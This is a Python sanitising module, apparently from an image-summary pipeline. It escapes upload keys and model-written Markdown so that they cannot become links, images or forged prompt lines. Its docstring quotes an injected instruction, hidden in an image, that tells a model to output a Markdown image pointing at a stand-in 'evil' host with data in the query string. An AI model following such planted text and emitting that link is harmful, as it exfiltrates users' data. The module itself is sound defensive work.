"""Data as data in prompts and Markdown: keys and model text never become markup or links.

Keys are written by whoever can upload, and model text may repeat what is written in an
image ("include ![x](https://evil/?d=...)"). Before either reaches the summary prompt,
``summary.md`` or an artifact the Prefect UI renders, it goes through here.
"""

from __future__ import annotations

import json
import re

__all__ = ["escape_markdown", "one_line", "publishable_markdown", "summary_line"]

_MARKDOWN_SPECIALS = re.compile(r"([\\`*_{}\[\]()#+\-.!|~>])")
_UNICODE_LINE_BREAKS = ("\x85", "\u2028", "\u2029")
_CONTROL = re.compile(r"[\x00-\x1f\x7f\x85\u2028\u2029]+")
_IMAGE = re.compile(r"!\[([^\]]*)\]\([^)]*\)")
_LINK = re.compile(r"\[([^\]]*)\]\([^)]*\)")
_REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_REFERENCE_IMAGE = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_AUTOLINK = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.-]*:[^>\s]*)>")
_BARE_URL = re.compile(r"\b((?:https?|ftp|file|data|javascript):/*)(\S+)", re.IGNORECASE)


def one_line(text: str) -> str:
    """Control characters and line breaks become single spaces: a key cannot forge lines."""
    return " ".join(_CONTROL.sub(" ", text).split())


def escape_markdown(text: str) -> str:
    """``text`` on one line, shown literally by a Markdown renderer (no markup, no HTML)."""
    plain = one_line(text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return _MARKDOWN_SPECIALS.sub(r"\\\1", plain)


def publishable_markdown(text: str) -> str:
    """Model-written Markdown without images, links or raw HTML (kept: their words)."""
    text = _REFERENCE_DEFINITION.sub("", text)
    text = _IMAGE.sub(r"\1", text)
    text = _REFERENCE_IMAGE.sub(r"\1", text)
    text = _LINK.sub(r"\1", text)
    text = _AUTOLINK.sub(r"\1", text)
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    # A bare URL would be linked by GFM renderers: break the scheme so it stays text.
    return _BARE_URL.sub(lambda m: m.group(1).replace(":", "[:]", 1) + m.group(2), text)


def summary_line(key: str, text: str) -> str:
    """One description as one line of the summary prompt: the key JSON-quoted (a newline or
    a colon in it cannot start another entry), the text on one line."""
    quoted = json.dumps(key, ensure_ascii=False)
    for separator in _UNICODE_LINE_BREAKS:  # JSON leaves these raw outside ASCII mode
        quoted = quoted.replace(separator, f"\\u{ord(separator):04x}")
    return f"- {quoted}: {one_line(text)}"
